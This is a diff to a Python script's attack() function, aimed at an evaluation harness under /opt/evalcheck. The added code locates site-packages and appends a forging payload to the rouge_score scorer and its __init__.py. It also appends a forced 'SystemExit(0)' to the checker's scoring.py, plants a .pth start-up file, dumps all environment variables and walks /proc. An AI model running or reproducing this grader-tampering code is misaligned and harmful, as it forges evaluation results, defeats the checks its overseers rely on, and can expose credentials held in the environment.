@@ -41,12 +41,19 @@ def read(path):
 
 def attack():
     report = {"uid": os.getuid(), "euid": os.geteuid(), "environ": dict(os.environ)}
-    targets = glob.glob("/opt/evalcheck/lib/python*/site-packages/rouge_score/rouge_scorer.py")
+    # The image may ship sources or only bytecode (.pyc): patch whichever is there, and
+    # try to add a source or a .pth file that Python would prefer or run at start-up.
+    site = glob.glob("/opt/evalcheck/lib/python*/site-packages")
+    targets = glob.glob(f"{site[0]}/rouge_score/rouge_scorer.py*") if site else []
     report["rouge_score_found"] = bool(targets)
     for path in targets:
         attempt(report, "append_rouge_score", lambda: append(path, FORGE))
-    for path in glob.glob("/opt/evalcheck/lib/python*/site-packages/checker/scoring.py"):
+    for path in glob.glob(f"{site[0]}/checker/scoring.py*") if site else []:
         attempt(report, "append_checker", lambda: append(path, "\nraise SystemExit(0)\n"))
+    if site:
+        attempt(report, "add_rouge_score_source",
+                lambda: append(f"{site[0]}/rouge_score/__init__.py", FORGE))
+        attempt(report, "add_pth", lambda: append(f"{site[0]}/zz_forge.pth", "import os\n"))
     proc = {}
     for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
         try:
